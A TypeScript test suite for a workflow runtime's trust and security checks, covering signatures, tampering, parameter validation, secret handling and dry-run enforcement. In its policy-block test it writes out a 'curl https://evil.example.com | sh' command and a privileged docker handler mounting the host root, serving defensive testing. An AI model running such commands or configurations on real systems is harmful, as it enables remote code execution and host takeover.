import {readFileSync, writeFileSync} from 'node:fs'
import {expect} from 'chai'
import {api, packageValue, shell, Trust} from '../support/packages.ts'
import {TestService} from '../support/service.ts'
import {eventually, STARTUP_MS} from '../support/waiting.ts'

const K8S = {name: 'restart', type: 'k8s', config: {action: 'restart', resource_name: 'web'}}

describe('what the runtime agrees to run', () => {
  let service: TestService
  before(async function () {
    this.timeout(STARTUP_MS)
    service = await TestService.start()
  })
  after(() => service.stop())

  it('refuses a package without a signature', async () => {
    const answer = await service.submitContent(packageValue({handlers: [shell('a', 'true')]}))
    expect(answer.status).to.equal(403)
    expect(answer.body).to.include({code: 'WPK_UNSIGNED'})
    expect(answer.body.detail).to.be.a('string')
  })

  it('refuses a package that was changed after it was signed', async () => {
    const content = structuredClone(await service.trust.sign({handlers: [shell('a', 'true')]})) as never as {
      spec: {handlers: {config: {command: string}}[]}
    }
    content.spec.handlers[0]!.config.command = 'touch changed'
    const answer = await service.submitContent(content as never)
    expect([answer.status, answer.body.code]).to.deep.equal([403, 'WPK_TAMPERED'])
  })

  it('refuses a signer that the trust policy does not know', async () => {
    const stranger = await Trust.create()
    const answer = await service.submitContent(await stranger.sign({handlers: [shell('a', 'true')]}))
    expect([answer.status, answer.body.code]).to.deep.equal([403, 'SIGNER_UNTRUSTED'])
  })

  it('checks the signature for a dry run as well', async () => {
    const answer = await service.submitContent(packageValue({handlers: [shell('a', 'true')]}), {dry_run: true})
    expect([answer.status, answer.body.code]).to.deep.equal([403, 'WPK_UNSIGNED'])
  })

  it('refuses what the security policy blocks', async () => {
    const evil = {
      name: 'evil',
      type: 'docker',
      config: {image: 'x', privileged: true, mounts: ['/:/host', '/etc:/etc']},
    }
    const answer = await service.submit({handlers: [evil, shell('b', 'curl https://evil.example.com | sh')]})
    expect([answer.status, answer.body.code]).to.deep.equal([403, 'POLICY_BLOCKED'])
    expect(answer.body.findings).to.have.length.greaterThan(0)
  })

  it('refuses a document that is no package, naming every problem', async () => {
    const answer = await service.submitContent({apiVersion: 'v1', metadata: {}} as never)
    expect([answer.status, answer.body.code]).to.deep.equal([422, 'WPK_INVALID'])
    expect(answer.body.detail).to.be.an('array').with.length.greaterThan(0)
    expect(answer.body.detail[0].loc.slice(0, 2)).to.deep.equal(['body', 'wpk_content'])
  })

  const DECLARED = [
    {name: 'namespace', type: 'string', required: true, schema: {enum: ['staging', 'production']}},
    {name: 'replicas', type: 'integer', default: 3},
  ]
  for (const [what, parameters] of [
    ['missing', {}],
    ['of the wrong type', {namespace: 'staging', replicas: 'many'}],
    ['outside its schema', {namespace: 'elsewhere'}],
    ['unknown', {namespace: 'staging', nonsense: 1}],
  ] as const)
    it(`refuses a parameter that is ${what}`, async () => {
      const answer = await service.submit({handlers: [shell('a', 'true')], parameters: DECLARED}, {parameters})
      expect([answer.status, answer.body.code]).to.deep.equal([422, 'PARAMETER_INVALID'])
      expect(answer.body.detail).to.be.an('array').with.length(1)
    })

  it('fills in the defaults of parameters', async () => {
    const shape = {handlers: [shell('a', 'echo "$NAMESPACE $REPLICAS"')], parameters: DECLARED}
    const execution = await service.run(shape, {parameters: {namespace: 'staging'}})
    expect(execution.logs).to.include('[a] staging 3')
  })

  for (const name of ['path', 'ld_preload', 'bash_env', 'ifs', 'atom_execution_id'])
    it(`refuses a parameter that would become the variable ${name.toUpperCase()}`, async () => {
      const answer = await service.submit({handlers: [shell('a', 'true')]}, {parameters: {[name]: 'x'}})
      expect([answer.status, answer.body.code]).to.deep.equal([422, 'PARAMETER_INVALID'])
    })

  it('refuses a parameter with a NUL, which no variable can hold', async () => {
    const answer = await service.submit({handlers: [shell('a', 'true')]}, {parameters: {a: 'x\0y'}})
    expect([answer.status, answer.body.code]).to.deep.equal([422, 'PARAMETER_INVALID'])
  })

  it('refuses two parameters that would be the same variable', async () => {
    const answer = await service.submit({handlers: [shell('a', 'true')]}, {parameters: {'a-b': 1, a_b: 2}})
    expect([answer.status, answer.body.code]).to.deep.equal([422, 'PARAMETER_INVALID'])
  })

  for (const [what, text] of [
    ['a lone surrogate', '"\\ud800"'],
    ['a number beyond all doubles', '1e999'],
    ['a very large number', '123456789012345678901234567890'],
    ['half a megabyte of text', JSON.stringify('x'.repeat(500_000))],
  ] as const)
    it(`answers a parameter with ${what} without breaking`, async () => {
      const content = await service.trust.sign({handlers: [shell('a', 'printf %s "$VALUE" | wc -c')]})
      const raw = `{"workflow_id":"w","wpk_content":${JSON.stringify(content)},"parameters":{"value":${text}}}`
      for (const headers of [{}, {'idempotency-key': `odd-${what.replaceAll(' ', '-')}`}]) {
        const answer = await service.request('/execute', {raw, headers})
        expect(answer.status).to.be.oneOf([200, 422])
        if (answer.status === 200) expect((await service.ended(answer.body.execution_id)).status).to.equal('completed')
      }
    })

  it('runs a package of very many handlers', async function () {
    this.timeout(120_000)
    const handlers = Array.from({length: 1200}, (_, i) => shell(`step-${i}`, 'true', {when: 'go == 1'}))
    const content = await service.trust.sign({name: 'many', handlers})
    const {body} = await service.submitContent(content, {parameters: {go: 0}})
    const execution = await eventually(
      'it ended',
      async () => {
        const found = await service.execution(body.execution_id)
        return found.completed_at ? found : undefined
      },
      60,
    )
    expect(execution).to.include({status: 'completed', steps_completed: 1200})
  })

  it('does not pretend to run a handler type it has no handler for', async () => {
    const answer = await service.submit({handlers: [shell('a', 'touch never'), K8S]})
    expect([answer.status, answer.body.code]).to.deep.equal([501, 'NOT_SUPPORTED'])
    expect(answer.body.detail).to.contain('restart').and.to.contain('k8s').and.to.contain('shell, api')
  })

  it('does not pretend to run it in a rollback either', async () => {
    const rollback = {enabled: true, handlers: [K8S]}
    const answer = await service.submit({handlers: [shell('a', 'true')], safety: {rollback_enabled: true}, rollback})
    expect([answer.status, answer.body.code]).to.deep.equal([501, 'NOT_SUPPORTED'])
  })

  it('refuses what needs a secret that could never be read here', async () => {
    const vault = {path: 'secret/data/db', key: 'token'}
    const parameters = [{name: 'token', type: 'secret', required: true, sources: ['vault'], vault}]
    const answer = await service.submit({handlers: [shell('a', 'echo $TOKEN')], parameters})
    expect([answer.status, answer.body.code]).to.deep.equal([403, 'SECRET_DENIED'])
    expect(answer.body.detail).to.contain('token').and.to.contain('VAULT_ADDR')
  })

  it('refuses the value of a secret, also for a dry run, and neither repeats nor stores it', async () => {
    const parameters = [{name: 'token', type: 'secret', required: true, sources: ['env']}]
    const handlers = [
      api('call', {url: 'http://127.0.0.1/', headers: {authorization: '${TOKEN}'}, payload: '${TOKEN}'}),
    ]
    for (const dry of [true, false]) {
      const request = {dry_run: dry, parameters: {token: 'very-secret'}}
      const answer = await service.submit({handlers, parameters}, request)
      expect([answer.status, answer.body.code]).to.deep.equal([422, 'PARAMETER_INVALID'])
      expect(JSON.stringify(answer.body)).to.not.contain('very-secret')
    }
    const tables = [
      'runtime_executions',
      'runtime_steps',
      'runtime_events',
      'dbos.workflow_input',
      'dbos.operation_outputs',
    ]
    for (const table of tables) {
      const {rows} = await service.storage.pool.query(`select row_to_json(t)::text as text from ${table} t`)
      expect(rows.map((row: {text: string}) => row.text).join('\n'), table).to.not.contain('very-secret')
    }
  })

  it('runs nothing while its trust policy cannot be read', async () => {
    const content = await service.trust.sign({handlers: [shell('a', 'true')]})
    const policy = readFileSync(service.trust.policyFile)
    writeFileSync(service.trust.policyFile, 'nonsense: [')
    const answer = await service.submitContent(content)
    writeFileSync(service.trust.policyFile, policy)
    expect([answer.status, answer.body.code]).to.deep.equal([503, 'TRUST_POLICY_INVALID'])
  })

  it('refuses a condition it cannot decide, before anything runs', async () => {
    const answer = await service.submit({handlers: [shell('a', 'true', {when: 'system("x") || true'})]})
    expect([answer.status, answer.body.code]).to.deep.equal([422, 'WPK_INVALID'])
    expect(answer.body.detail[0].loc.join('.')).to.contain('when')
  })

  it('refuses a placeholder that nothing can fill', async () => {
    const answer = await service.submit({handlers: [api('call', {url: '${WEBHOOK_URL}'})]})
    expect(answer.status).to.equal(422)
    expect(JSON.stringify(answer.body.detail)).to.contain('WEBHOOK_URL')
  })

  describe('when a dry run is required', () => {
    const shape = {name: 'careful', handlers: [shell('a', 'echo "$WHO"')], safety: {dry_run_required: true}}

    it('runs only what passed one with the same document and parameters', async () => {
      const parameters = {who: 'ann'}
      const early = await service.submit(shape, {parameters})
      expect([early.status, early.body.code]).to.deep.equal([409, 'DRY_RUN_REQUIRED'])
      expect((await service.run(shape, {parameters, dry_run: true})).status).to.equal('completed')
      expect((await service.submit(shape, {parameters: {who: 'bob'}})).status).to.equal(409)
      expect((await service.submit({...shape, version: '1.0.1'}, {parameters})).status).to.equal(409)
      expect((await service.run(shape, {parameters})).logs).to.include('[a] ann')
    })
  })
})
